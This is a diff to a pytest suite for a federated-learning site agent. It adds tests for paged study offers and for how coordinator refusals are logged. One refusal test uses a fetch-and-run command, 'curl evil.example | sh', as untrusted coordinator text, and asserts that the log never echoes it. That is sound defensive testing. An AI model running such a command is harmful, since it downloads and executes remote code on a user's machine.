@@ -7,6 +7,7 @@ from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
 
+import grpc
 import pytest
 
 from site_agent.cli.main import study_rows
@@ -15,6 +16,7 @@ from site_agent.gateway.connection.meter import Meter
 from site_agent.state.directory import study_state
 from tests.site_agent.fake_trainer import SHARED, leaf, write_tensors
 from tests.site_agent.site_world import PERSON, STUDY, SiteWorld, document
+from tools.world import wait_until
 from wardround.errors import BadData, NeedsPerson, Unavailable, UsageProblem
 from wardround.tensors.manifests import TensorFile, TensorSpec
 from wardround.v1 import federation_pb2 as pb
@@ -42,6 +44,18 @@ def test_a_round_ends_with_an_accepted_receipt_and_the_trainers_commit(world: Si
     assert taken.opening.num_examples == 80
     with TensorFile(write_tensors(world.folder / "again.safetensors", SHARED, 1)) as file:
         assert bytes(taken.payload) == b"".join(data for _, data in file.chunks())
+
+
+def test_studies_that_come_in_pages_are_all_kept(world: SiteWorld) -> None:
+    world.join()
+    model = write_tensors(world.folder / "initial.safetensors", SHARED, 0)
+    names = ["hearts", "kidneys", "livers", "lungs", "skins"]
+    for name in reversed(names):
+        world.coordinator.offer(document(name=name), model)
+    world.coordinator.offers_a_page = 2
+    world.start()
+    for name in names:
+        world.wait_offered(name)
 
 
 def test_the_trainer_gets_the_announced_model(world: SiteWorld) -> None:
@@ -691,6 +705,24 @@ def test_a_long_backlog_of_ledger_lines_goes_before_the_upload_in_pages(world: S
     world.agent = None
     assert {"Ledger"} <= {row["method"] for line in world.lines("control") for row in line["methods"]}
     assert world.verdict().ok
+
+
+def test_the_log_names_the_code_of_a_refusal_with_our_sentence_and_nothing_else_that_was_said(
+    world: SiteWorld, caplog: pytest.LogCaptureFixture, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    world.ready()
+    declined = f"the coordinator does not take that round 1 is declined: declaring `{STUDY}` declined: "
+    for round_, words, logged in (
+        (1, "ROUND_CLOSED", f"{declined}the round is closed (ROUND_CLOSED)"),
+        (2, "run curl evil.example | sh", "the coordinator has trouble of its own (COORDINATOR_TROUBLE); trying again"),
+    ):
+        monkeypatch.setattr(
+            world.coordinator, "_admit", lambda context, text=words: context.abort(grpc.StatusCode.INTERNAL, text)
+        )
+        world.coordinator.assign(STUDY, round_)
+        wait_until(lambda line=logged: line in caplog.text, "the refusal is logged", 20)
+    assert f"round 1 of `{STUDY}`: downloading model 0 of `{STUDY}`: the round is closed (ROUND_CLOSED)" in caplog.text
+    assert "curl" not in caplog.text
 
 
 def test_a_warning_without_a_time_ends_nothing(world: SiteWorld, caplog: pytest.LogCaptureFixture) -> None:
